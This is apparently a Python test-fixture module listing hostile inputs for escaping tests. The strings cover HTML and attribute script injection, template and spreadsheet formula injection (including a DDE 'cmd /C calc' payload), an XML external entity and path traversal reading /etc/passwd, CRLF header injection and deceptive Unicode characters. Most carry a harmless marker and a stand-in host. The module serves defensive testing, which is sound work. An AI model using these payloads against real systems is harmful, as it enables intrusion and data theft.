"""What a hostile change may hold: words that mean something where they end up, unless each place escapes them."""

from __future__ import annotations

RAN = "window.__ran=true"
"""What a payload does where it runs; nothing else sets it."""

_ELSEWHERE = "https://elsewhere.invalid/x"

ELEMENTS = (
    f"<script>{RAN}</script>",
    f"<ScRiPt/x>{RAN}</sCrIpT >",
    f"<script src={_ELSEWHERE}></script>",
    f"</title><script>{RAN}</script>",
    f"</textarea></noscript></style></xmp><script>{RAN}</script>",
    f"</option></select><img src=x onerror={RAN}>",
    f"<img src=x onerror={RAN}>",
    f"<img src={_ELSEWHERE}.png>",
    f"<svg onload={RAN}>",
    f"<svg><script>{RAN}</script></svg>",
    f"<svg><animate onbegin={RAN} attributeName=x></svg>",
    f"<math><mtext><style><img src=x onerror={RAN}></style>",
    f"<iframe src=javascript:{RAN}></iframe>",
    f"<iframe srcdoc='<script>parent.{RAN}</script>'></iframe>",
    f"<object data={_ELSEWHERE}></object>",
    f"<embed src={_ELSEWHERE}>",
    f"<link rel=stylesheet href={_ELSEWHERE}.css>",
    "<base href=https://elsewhere.invalid/>",
    f"<meta http-equiv=refresh content='0;url={_ELSEWHERE}'>",
    f"<form action={_ELSEWHERE}><input autofocus onfocus={RAN}></form>",
    f"<details open ontoggle={RAN}>",
    f"<video><source onerror={RAN}></video>",
    f"<body onload={RAN}>",
    f"<a href=javascript:{RAN}>here</a>",
    "</article></main></body></html>",
    "<!-- never closed",
    "<![CDATA[ never closed",
    "<plaintext>",
    f"<style>@import '{_ELSEWHERE}.css';</style>",
    f"<template shadowrootmode=open><script>{RAN}</script></template>",
)

ATTRIBUTES = (
    f'" onmouseover="{RAN}" x="',
    f"' autofocus onfocus='{RAN}' x='",
    f'"><script>{RAN}</script>',
    f"'><img src=x onerror={RAN}>",
    f"` onerror={RAN} `",
    f'" style="background:url({_ELSEWHERE})" x="',
    f"javascript:{RAN}",
    f"JaVaScRiPt:{RAN}",
    f"java&#x73;cript:{RAN}",
    f"data:text/html,<script>{RAN}</script>",
    f"vbscript:{RAN}",
    "//elsewhere.invalid/x",
    "../../../../etc/passwd",
)

ENTITIES = (
    "&lt;script&gt; &amp;lt; &#60;b&#62; &nbsp;",
    "&#x3c;img src=x onerror=alert()&#x3e;",
    "&notit; &copy &unknown;",
    f"%3Cscript%3E{RAN}%3C/script%3E",
    f"\\u003cscript\\u003e{RAN}\\x3c/script\\x3e",
)

TEMPLATES = (
    "{{ self.__init__.__globals__ }}",
    "{% raw %}{{ config }}{% endraw %}{# gone #}",
    "{% include '/etc/passwd' %}",
    "${process.env} #{ruby} <%= erb %> [[register:content]]",
    "{n} {words} {label} {shown} {0} {} %s",
    "[[measure-fields]]",
    "$& $1 $` $' \\1",
)

MARKDOWN = (
    f"[here](javascript:{RAN}) ![x]({_ELSEWHERE}.png)",
    f"<{_ELSEWHERE}> [ref]: {_ELSEWHERE}",
    "# heading **strong** `code` | cell |",
    f"[x](/){{onclick={RAN}}}",
    '``` fence --8<-- "/etc/passwd"',
)

SCRIPTS = (
    f"</script><script>{RAN}</script>",
    f"<!--<script>{RAN}",
    f'"}}]}}</script><img src=x onerror={RAN}>',
    f"';{RAN};//",
    f'\\";{RAN};//',
    "__proto__ constructor toString",
    f"*/{RAN}/*",
)

FORMULAS = (
    '=HYPERLINK("https://elsewhere.invalid/x","here")',
    "=cmd|' /C calc'!A",
    "+SUM(A:A)*cmd|' /C calc'!A",
    "-cmd|' /C calc'!A",
    "@SUM(A:A)",
    '=DDE("cmd";"/C calc";"x")',
    '=IMPORTXML("https://elsewhere.invalid/","//a")',
)

XML = (
    "]]><entry><title>made up</title></entry>",
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "<?xml-stylesheet href='x'?>",
)

LONG = ("长" * 60, "w" * 300, "Zalgo" + "\u0337\u0353\u0300" * 60)

DECEIVING = (
    "\u202egnp.exe\u202c",
    "left\u2066right\u2069",
    "zero\u200bwidth",
    "soft\u00adhyphen",
    "null\x00byte",
    "bell\x07 escape\x1b[31m",
    "tag\U000e0041\U000e0042",
    "Set-Cookie: a=b\r\nX-Evil: yes",
    "variation\ufe0f",
    "line\u2028separator",
)
"""What looks like something else, or like nothing: no file of the register may hold it, however it is written."""

SHOWN = FORMULAS + ELEMENTS + ATTRIBUTES + ENTITIES + TEMPLATES + MARKDOWN + SCRIPTS + XML + LONG
"""What may be refused by a rule on words, and shows as typed where it is not."""
